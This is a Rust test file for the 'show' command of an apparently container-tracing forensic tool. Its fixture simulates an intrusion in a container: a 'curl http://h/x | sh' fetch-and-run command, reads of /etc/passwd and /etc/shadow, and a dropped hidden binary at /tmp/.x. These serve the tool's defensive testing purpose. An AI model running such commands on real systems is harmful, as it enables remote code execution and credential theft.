//! `afterimage show`.

use afterimage_format::{ContainerUid, Engine, EventFlags, FactKey, FieldTag, Loss, LossCause};

use crate::{
    fixture::{self, Call, Exec, Fixture, Store, at, id, task},
    run::afterimage,
};

const AT_FDCWD: u64 = 0xffff_ff9c;

/// A container in which a shell reads a file and runs a new binary, with set-up before and a gap between.
pub(crate) fn story() -> Fixture {
    let mut fixture = Fixture::new();
    let mut web = fixture::container(1, Engine::Docker, &id("3ad7b26ded6d"), 1.0, &[(FactKey::Name, b"web")]);
    web.exited = Some((at(9.0), 0));
    web.removed = Some(at(9.5));
    fixture.container(&web);
    fixture.container(&fixture::container(2, Engine::Docker, &id("3ad8"), 1.0, &[(FactKey::Name, b"other")]));
    let (shell, dropped) = (task(410, 1.0), task(412, 3.0));
    let setup = EventFlags::SETUP;
    fixture.exec(1, 1.0, shell, Exec { argv: &[b"sh", b"-c", b"x"], flags: setup, ..Exec::default() });
    fixture.exec(1, 1.5, shell, Exec { argv: &[b"sh", b"-c", b"curl http://h/x | sh"], ..Exec::default() });
    let path: [(FieldTag, &[u8]); 2] = [(FieldTag::PATH, b"/etc/passwd"), (FieldTag::KPATH, b"/etc/passwd")];
    fixture.call(
        1,
        2.0,
        shell,
        Call { nr: 257, ret: 3, args: &[AT_FDCWD, 0, 0, 0], fields: &path, ..Call::default() },
    );
    let path: [(FieldTag, &[u8]); 1] = [(FieldTag::PATH, b"/etc/shadow")];
    fixture.call(
        1,
        2.5,
        shell,
        Call { nr: 257, ret: -13, args: &[AT_FDCWD, 0, 0, 0], fields: &path, ..Call::default() },
    );
    let poll = [0, 1, 0xffff_ffff];
    let restarted = EventFlags::RESTART;
    fixture.call(1, 2.6, shell, Call { nr: 7, ret: -516, args: &poll, flags: restarted, ..Call::default() });
    fixture.call(1, 2.9, shell, Call { nr: 219, ret: 1, ..Call::default() });
    fixture.fork(1, 3.0, shell, dropped);
    let exe_flags = afterimage_format::layout::exec::EXE_UPPER_LAYER;
    let exec = Exec {
        exe: b"/tmp/.x",
        argv: &[b"/tmp/.x", b"-q"],
        comm: b".x",
        parent: shell,
        exe_flags,
        ..Exec::default()
    };
    fixture.exec(1, 3.1, dropped, exec);
    fixture.call(2, 3.2, task(500, 1.0), Call { nr: 39, ret: 500, ..Call::default() });
    fixture.exit(1, 8.0, dropped, 3);
    fixture.exit(1, 9.0, shell, 0);
    fixture.loss(Loss {
        container: Some(ContainerUid(1)),
        cause: LossCause::RingFull,
        cpu: Some(3),
        from: at(4.0),
        to: at(4.8),
        count: Some(312),
    });
    fixture
}

fn sealed() -> Store {
    story().seal()
}

fn events(store: &Store, more: &[&str]) -> Vec<String> {
    let args: Vec<&str> = ["show", "web", store.arg(), "-o", "jsonl"].iter().chain(more).copied().collect();
    let lines = afterimage(&args).json_lines();
    let text = |v: &serde_json::Value, key: &str| v[key].as_str().unwrap_or_default().to_owned();
    lines.iter().filter(|l| l["kind"] != "summary").map(|l| text(l, "event")).collect()
}

#[test]
fn events_stand_in_order_with_the_gap_at_its_place() {
    let ran = afterimage(&["show", "web", sealed().arg()]);
    insta::assert_snapshot!(ran.stdout());
    assert_eq!(ran.code, 4);
    assert!(ran.stderr().contains("1 event of the container's set-up hidden"), "{}", ran.stderr());
    assert!(ran.stderr().contains("lost: 312 events in 1 gap"), "{}", ran.stderr());
}

#[test]
fn setup_and_restarted_calls_are_shown_when_asked_for() {
    let store = sealed();
    let plain = events(&store, &[]);
    assert_eq!(plain, ["exec", "openat", "openat", "poll", "fork", "exec", "lost", "exit", "exit"]);
    assert_eq!(events(&store, &["--setup"]).len(), 10);
    let raw = events(&store, &["--raw"]);
    assert_eq!(raw[3..5], ["poll", "restart_syscall"]);
}

#[test]
fn range_and_loss_decide_the_exit_code() {
    let store = sealed();
    let code = |args: &[&str]| afterimage(&[&["show", "web", store.arg()], args].concat()).code;
    assert_eq!(code(&["--end", "+2.5s"]), 0);
    assert_eq!(code(&["--begin", "+2.9s", "--end", "+3.1s"]), 4, "the gap is from +3.0 to +3.8");
    assert_eq!(code(&["--begin", "+4s"]), 0);
    assert_eq!(code(&["--begin", "+4s", "--end", "+5s"]), 1, "nothing happened then");
    assert_eq!(events(&store, &["--begin", "11:58:10"]), ["exit", "exit"]);
}

#[test]
fn limit_stops_and_says_so() {
    let ran =
        afterimage(&["show", "web", sealed().arg(), "-n", "2", "-o", "csv", "--fields", "event,result"]);
    assert_eq!(ran.stdout(), "event,result\nexec,0\nopenat,3\n");
    assert!(ran.stderr().contains("stopped at --limit"), "{}", ran.stderr());
}

#[test]
fn process_names_are_those_of_the_moment() {
    let store = sealed();
    let ran = afterimage(&["show", "web", store.arg(), "-o", "csv", "--fields", "pid,process,event"]);
    let wanted = ["412,.x,exec", "412,.x,exit", "410,sh,fork"];
    for line in wanted {
        assert!(ran.stdout().lines().any(|l| l == line), "{line} is missing in {}", ran.stdout());
    }
}

#[test]
fn container_is_named_by_prefix_or_name_and_nothing_else() {
    let store = sealed();
    let run = |name: &str| afterimage(&["show", name, store.arg()]);
    assert_ne!(run("3ad7").code, 1);
    assert_ne!(run("uid:1").code, 1);
    let ambiguous = run("3ad");
    assert_eq!(ambiguous.code, 2);
    assert!(ambiguous.stderr().contains("3ad7b26ded6d (web) (uid:1"), "{}", ambiguous.stderr());
    assert!(ambiguous.stderr().contains("(other) (uid:2"), "{}", ambiguous.stderr());
    let unknown = run("wb");
    assert_eq!(unknown.code, 1);
    assert!(unknown.stderr().contains("no container `wb`"), "{}", unknown.stderr());
    assert!(unknown.stderr().contains("afterimage ls"), "{}", unknown.stderr());
    assert!(run("3ad9").stderr().contains("did you mean 3ad7"), "{}", run("3ad9").stderr());
}

#[test]
fn nothing_of_another_container_is_shown() {
    assert!(!afterimage(&["show", "web", sealed().arg()]).stdout().contains("getpid"));
}
